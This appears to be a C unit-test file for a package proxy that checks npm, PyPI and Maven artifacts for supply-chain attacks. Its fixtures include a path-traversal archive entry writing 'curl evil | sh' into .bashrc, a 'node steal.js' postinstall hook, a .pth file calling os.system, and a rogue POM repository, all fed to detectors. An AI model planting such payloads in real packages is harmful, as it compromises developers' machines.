@@ -1,0 +1,377 @@
+/* unit tests: analysis as the decision sees it — findings mapped to
+ * hold/warn/ignore inside policy_decide (and what admits a version anyway),
+ * npm install-script history from a packument, the per-ecosystem reading of
+ * artifacts (npm manifest confusion and binding.gyp, wheel .pth and
+ * METADATA, jar coordinates, POM repositories, broken archives), the
+ * findings store and the typosquat name check through the running set. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "analysis/analysis.h"
+#include "analysis/artifact.h"
+#include "analysis/findings.h"
+#include "cache/store.h"
+#include "common/timeutil.h"
+#include "ecosystems/npm/npm_filter.h"
+#include "ecosystems/npm/npm_packument.h"
+#include "server/config.h"
+#include "server/policy.h"
+#include "tests/unit/archive_writer.h"
+#include "tests/unit/test.h"
+
+#define DAY (86400LL * 1000)
+
+static config_t g_cfg;
+
+static void load(const char *yaml)
+{
+    char err[512];
+    config_free(&g_cfg);
+    int rc = config_load_string(&g_cfg, "t.yaml", yaml, strlen(yaml), err, sizeof(err));
+    if (rc != 0)
+        fprintf(stderr, "config: %s\n", err);
+    CHECK(rc == 0);
+}
+
+static verdict_t decide(eco_id_t eco, const char *pkg, const char *ver, const findings_t *f)
+{
+    verdict_t v;
+    int64_t now = time_now_ms();
+    version_facts_t facts = {.published_at = now - 100 * DAY, .first_seen = TIME_NONE, .findings = f};
+    policy_decide(&g_cfg, eco, pkg, ver, &facts, now, &v);
+    return v;
+}
+
+TEST(findings_in_policy)
+{
+    load("quarantine: { min_age: 7d }\n");
+    findings_t f;
+    findings_clear(&f);
+    CHECK(decide(ECO_NPM, "pkg", "1.0.0", &f).allow);
+
+    /* defaults: a new install script holds, a long-standing one warns */
+    findings_add(&f, FINDING_INSTALL_SCRIPT, "pkg@1.0.0 runs install scripts");
+    verdict_t v = decide(ECO_NPM, "pkg", "1.0.0", &f);
+    CHECK(v.allow);
+    CHECK(v.warnings & (1u << FINDING_INSTALL_SCRIPT));
+    findings_add(&f, FINDING_NEW_INSTALL_SCRIPT, "pkg@1.0.0 runs install scripts and no earlier version did");
+    v = decide(ECO_NPM, "pkg", "1.0.0", &f);
+    CHECK(!v.allow);
+    CHECK_STR_EQ(v.reason, "new_install_script");
+    CHECK_STR_EQ(v.rule, "analysis new_install_script: hold");
+    CHECK(strstr(v.detail, "no earlier version") != NULL);
+    CHECK(v.eligible_at == TIME_NONE); /* age never admits it */
+
+    /* the most severe finding is the one reported */
+    findings_add(&f, FINDING_MANIFEST_MISMATCH, "scripts.postinstall differs");
+    CHECK_STR_EQ(decide(ECO_NPM, "pkg", "1.0.0", &f).reason, "manifest_mismatch");
+    /* reasons of the finer kinds are DESIGN's */
+    findings_t p;
+    findings_clear(&p);
+    findings_add(&p, FINDING_PTH_FILE, "evil.pth");
+    CHECK_STR_EQ(decide(ECO_PYPI, "x", "1.0", &p).reason, "install_script");
+
+    /* the configuration decides */
+    load("quarantine: { min_age: 7d }\nanalysis: { new_install_script: warn, manifest_mismatch: ignore }\n");
+    v = decide(ECO_NPM, "pkg", "1.0.0", &f);
+    CHECK(v.allow);
+    CHECK(v.warnings & (1u << FINDING_NEW_INSTALL_SCRIPT));
+    CHECK(!(v.warnings & (1u << FINDING_MANIFEST_MISMATCH)));
+
+    /* an exact allow admits it; a deny still wins */
+    load("quarantine:\n  min_age: 7d\n  rules:\n"
+         "    - { match: \"npm:pkg@1.0.0\", allow: true }\n"
+         "    - { match: \"npm:bad\", deny: true }\n");
+    CHECK(decide(ECO_NPM, "pkg", "1.0.0", &f).allow);
+    CHECK(!decide(ECO_NPM, "pkg", "1.0.1", &f).allow);
+    CHECK_STR_EQ(decide(ECO_NPM, "bad", "1.0.0", NULL).reason, "blocked");
+
+    /* a configuration that names an unknown kind or action is refused */
+    char err[300];
+    config_t bad;
+    const char *y1 = "analysis: { typosquat: maybe }\n";
+    CHECK(config_load_string(&bad, "b.yaml", y1, strlen(y1), err, sizeof(err)) != 0);
+    CHECK(strstr(err, "b.yaml:1: 'typosquat' must be hold, warn or ignore") != NULL);
+    config_free(&bad);
+    const char *y2 = "analysis:\n  pth_allow: [x.txt]\n";
+    CHECK(config_load_string(&bad, "b.yaml", y2, strlen(y2), err, sizeof(err)) != 0);
+    CHECK(strstr(err, "b.yaml:2:") != NULL);
+    config_free(&bad);
+    const char *y3 = "analysis:\n  limits: { max_entries: 0 }\n";
+    CHECK(config_load_string(&bad, "b.yaml", y3, strlen(y3), err, sizeof(err)) != 0);
+    config_free(&bad);
+}
+
+TEST(typosquat_through_policy)
+{
+    load("quarantine: { min_age: 7d }\n");
+    char err[300];
+    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), 0);
+    verdict_t v = decide(ECO_NPM, "lodahs", "1.0.0", NULL);
+    CHECK(!v.allow);
+    CHECK_STR_EQ(v.reason, "typosquat");
+    CHECK(strstr(v.detail, "looks like lodash") != NULL);
+    CHECK(decide(ECO_NPM, "lodash", "4.17.21", NULL).allow);
+    /* asked again: the cached answer */
+    CHECK_STR_EQ(decide(ECO_NPM, "lodahs", "1.0.1", NULL).reason, "typosquat");
+    /* a popular file adds names (and so protects them) */
+    FILE *pf = fopen("/tmp/cordon-test-popular.txt", "w");
+    fputs("# ours\nnpm:acme-widgets\n", pf);
+    fclose(pf);
+    load("quarantine: { min_age: 7d }\nanalysis: { popular_file: /tmp/cordon-test-popular.txt }\n");
+    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), 0);
+    CHECK_STR_EQ(decide(ECO_NPM, "acme-widgetz", "1.0.0", NULL).reason, "typosquat");
+    CHECK(decide(ECO_NPM, "acme-widgets", "1.0.0", NULL).allow);
+    pf = fopen("/tmp/cordon-test-popular.txt", "w");
+    fputs("nope:x\n", pf);
+    fclose(pf);
+    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), -1);
+    CHECK(strstr(err, "cordon-test-popular.txt:1:") != NULL);
+    remove("/tmp/cordon-test-popular.txt");
+    analysis_shutdown();
+    CHECK(decide(ECO_NPM, "lodahs", "1.0.0", NULL).allow); /* no set: no name findings */
+}
+
+TEST(npm_install_script_history)
+{
+    const char *doc = "{\"name\":\"s\",\"versions\":{"
+                      "\"1.0.0\":{\"name\":\"s\",\"version\":\"1.0.0\"},"
+                      "\"1.2.0\":{\"name\":\"s\",\"version\":\"1.2.0\",\"scripts\":{\"postinstall\":\"node x\"}},"
+                      "\"1.1.0\":{\"name\":\"s\",\"version\":\"1.1.0\"},"
+                      "\"1.3.0\":{\"name\":\"s\",\"version\":\"1.3.0\",\"scripts\":{\"install\":\"node y\"}}},"
+                      "\"time\":{\"1.0.0\":\"2025-01-01T00:00:00Z\",\"1.1.0\":\"2025-02-01T00:00:00Z\","
+                      "\"1.2.0\":\"2025-03-01T00:00:00Z\",\"1.3.0\":\"2025-04-01T00:00:00Z\"}}";
+    npm_packument_t p;
+    char err[200];
+    CHECK_INT_EQ(npm_packument_parse(&p, doc, strlen(doc), err, sizeof(err)), 0);
+    unsigned char bits[4];
+    npm_install_script_history(&p, bits);
+    /* document order: 1.0.0, 1.2.0, 1.1.0, 1.3.0 */
+    CHECK_INT_EQ(bits[0], 0);
+    CHECK_INT_EQ(bits[1], NPM_SCRIPTS_HAS | NPM_SCRIPTS_NEW);
+    CHECK_INT_EQ(bits[2], 0);
+    CHECK_INT_EQ(bits[3], NPM_SCRIPTS_HAS); /* 1.2.0 had scripts before it */
+    findings_t f;
+    findings_clear(&f);
+    npm_script_findings("s", "1.2.0", bits[1], &f);
+    CHECK(f.mask == (1u << FINDING_NEW_INSTALL_SCRIPT));
+    npm_packument_free(&p);
+
+    /* the very first version with scripts is not "new": nothing came before */
+    const char *one = "{\"name\":\"t\",\"versions\":{\"1.0.0\":{\"scripts\":{\"preinstall\":\"x\"}}},"
+                      "\"time\":{\"1.0.0\":\"2025-01-01T00:00:00Z\"}}";
+    CHECK_INT_EQ(npm_packument_parse(&p, one, strlen(one), err, sizeof(err)), 0);
+    npm_install_script_history(&p, bits);
+    CHECK_INT_EQ(bits[0], NPM_SCRIPTS_HAS);
+    npm_packument_free(&p);
+}
+
+static void analyse(eco_id_t eco, const char *pkg, const char *ver, const char *file, const char *expected,
+                    const buf_t *bytes, findings_t *f)
+{
+    artifact_job_t *j = artifact_job_new(eco, pkg, ver, file, expected, expected ? strlen(expected) : 0);
+    findings_clear(f);
+    artifact_analyse_memory(j, bytes->data ? bytes->data : "", bytes->len, &g_cfg.analysis, f);
+    artifact_job_free(j);
+}
+
+TEST(npm_tarballs)
+{
+    load("quarantine: { min_age: 7d }\n");
+    const char *reg = "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"},"
+                      "\"dist\":{\"tarball\":\"x\"}}";
+    buf_t b;
+    findings_t f;
+
+    buf_init(&b);
+    struct archive *a = w_new(TGZ, &b, NULL);
+    w_file(a, "package/package.json", "{\"version\":\"1.0.0\",\"name\":\"m\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
+    w_file(a, "package/index.js", "module.exports = 1;\n");
+    w_close(a);
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK_INT_EQ((long)f.mask, 0);
+    buf_free(&b);
+
+    /* manifest confusion: the tarball installs a script the registry does not show */
+    buf_init(&b);
+    a = w_new(TGZ, &b, NULL);
+    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"},"
+                                      "\"scripts\":{\"postinstall\":\"node steal.js\"}}");
+    w_close(a);
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "postinstall") != NULL);
+    CHECK_STR_EQ(decide(ECO_NPM, "m", "1.0.0", &f).reason, "manifest_mismatch");
+    buf_free(&b);
+
+    /* a root binding.gyp is an install script npm runs */
+    buf_init(&b);
+    a = w_new(TGZ, &b, NULL);
+    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
+    w_file(a, "package/binding.gyp", "{}");
+    w_close(a);
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "binding.gyp") != NULL);
+    buf_free(&b);
+
+    /* no package.json; a truncated gzip; not an archive at all */
+    buf_init(&b);
+    a = w_new(TGZ, &b, NULL);
+    w_file(a, "package/index.js", "1");
+    w_close(a);
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+    b.len /= 2;
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+    buf_reset(&b);
+    buf_puts(&b, "<html>not found</html>");
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+    CHECK_STR_EQ(decide(ECO_NPM, "m", "1.0.0", &f).reason, "malformed_archive");
+    buf_free(&b);
+
+    /* a path out of the archive */
+    buf_init(&b);
+    a = w_new(TGZ, &b, NULL);
+    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
+    w_file(a, "package/../../../home/x/.bashrc", "curl evil | sh");
+    w_close(a);
+    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+    buf_free(&b);
+}
+
+static void wheel(buf_t *b, const char *metadata, const char *extra)
+{
+    buf_init(b);
+    struct archive *a = w_new(ZIP, b, NULL);
+    w_file(a, "demo/__init__.py", "");
+    w_file(a, "demo-1.0.dist-info/METADATA", metadata);
+    w_file(a, "demo-1.0.dist-info/RECORD", "");
+    if (extra)
+        w_file(a, extra, "import os; os.system('x')\n");
+    w_close(a);
+}
+
+TEST(wheels_and_jars)
+{
+    load("quarantine: { min_age: 7d }\n");
+    buf_t b;
+    findings_t f;
+    const char *md = "Metadata-Version: 2.1\nName: Demo\nVersion: 1.0\n\nlong description Name: other\n";
+    wheel(&b, md, NULL);
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK_INT_EQ((long)f.mask, 0);
+    buf_free(&b);
+    wheel(&b, md, "evil.pth");
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_PTH_FILE));
+    CHECK(strstr(f.detail[FINDING_PTH_FILE], "evil.pth") != NULL);
+    buf_free(&b);
+    wheel(&b, md, "distutils-precedence.pth"); /* on the allow list */
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK_INT_EQ((long)f.mask, 0);
+    buf_free(&b);
+    wheel(&b, md, "demo-1.0.data/purelib/sneaky.pth");
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_PTH_FILE));
+    buf_free(&b);
+    wheel(&b, "Name: requests\nVersion: 1.0\n", NULL);
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    buf_free(&b);
+    wheel(&b, "Name: demo\nVersion: 2.0\n", NULL);
+    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    buf_free(&b);
+
+    /* jars: pom.properties must name the coordinates served */
+    buf_init(&b);
+    struct archive *a = w_new(ZIP, &b, NULL);
+    w_file(a, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n");
+    w_file(a, "META-INF/maven/org.example/lib/pom.properties", "groupId=org.example\nartifactId=lib\nversion=1.0\n");
+    w_close(a);
+    analyse(ECO_MAVEN, "org.example:lib", "1.0", "lib-1.0.jar", NULL, &b, &f);
+    CHECK_INT_EQ((long)f.mask, 0);
+    analyse(ECO_MAVEN, "com.other:thing", "1.0", "thing-1.0.jar", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "org.example:lib") != NULL);
+    buf_free(&b);
+
+    /* POMs: declared repositories, not commented-out ones */
+    buf_init(&b);
+    buf_puts(&b, "<project><!-- <repositories> --><groupId>g</groupId></project>");
+    analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
+    CHECK_INT_EQ((long)f.mask, 0);
+    buf_reset(&b);
+    buf_puts(&b, "<project><repositories><repository><url>http://evil</url></repository></repositories></project>");
+    analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
+    CHECK(decide(ECO_MAVEN, "g:a", "1", &f).allow); /* warn by default */
+    buf_free(&b);
+
+    CHECK(artifact_is_analysed(ECO_NPM, "x-1.0.0.tgz"));
+    CHECK(artifact_is_analysed(ECO_PYPI, "x-1.0.tar.gz"));
+    CHECK(!artifact_is_analysed(ECO_PYPI, "x-1.0-py3-none-any.whl.metadata"));
+    CHECK(!artifact_is_analysed(ECO_MAVEN, "x-1.0.jar.sha1"));
+}
+
+typedef struct two {
+    const findings_t *a, *b;
+} two_t;
+
+static int put_two(MDB_txn *t, void *arg)
+{
+    const two_t *two = arg;
+    int rc = findings_put(t, "pypi", "demo", "1.0", "aaaa", two->a);
+    if (rc == 0)
+        rc = findings_put(t, "pypi", "demo", "1.0", "bbbb", two->b);
+    if (rc == 0) /* another version whose name starts like this one */
+        rc = findings_put(t, "pypi", "demo", "1.0.1x", "cccc", two->b);
+    return rc;
+}
+
+TEST(findings_store)
+{
+    char dir[] = "/tmp/cordon-test-analysis-XXXXXX", err[300];
+    CHECK(mkdtemp(dir) != NULL);
+    CHECK_INT_EQ(store_open(dir, 1 << 20, 0, err, sizeof(err)), 0);
+    findings_t a, b, got;
+    findings_clear(&a);
+    findings_clear(&b);
+    findings_add(&a, FINDING_PTH_FILE, "x.pth");
+    findings_add(&b, FINDING_MANIFEST_MISMATCH, "name");
+    two_t two = {&a, &b};
+    CHECK_INT_EQ(store_write(put_two, &two, err, sizeof(err)), STORE_OK);
+    MDB_txn *txn;
+    CHECK_INT_EQ(store_read_begin(&txn), 0);
+    findings_clear(&got);
+    /* every analysed artifact of the version counts */
+    CHECK_INT_EQ(findings_get_version(txn, "pypi", "demo", "1.0", &got), 1);
+    CHECK(got.mask == ((1u << FINDING_PTH_FILE) | (1u << FINDING_MANIFEST_MISMATCH)));
+    CHECK_STR_EQ(got.detail[FINDING_PTH_FILE], "x.pth");
+    findings_clear(&got);
+    CHECK_INT_EQ(findings_get_version(txn, "pypi", "demo", "1.0.1", &got), 0);
+    CHECK_INT_EQ(findings_get_version(txn, "pypi", "dem", "1.0", &got), 0);
+    CHECK_INT_EQ((long)got.mask, 0);
+    store_read_end(txn);
+    store_close();
+    char cmd[100];
+    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
+    CHECK(system(cmd) == 0);
+}
+
+int main(void)
+{
+    RUN(findings_in_policy);
+    RUN(typosquat_through_policy);
+    RUN(npm_install_script_history);
+    RUN(npm_tarballs);
+    RUN(wheels_and_jars);
+    RUN(findings_store);
+    config_free(&g_cfg);
+    return test_report();
+}
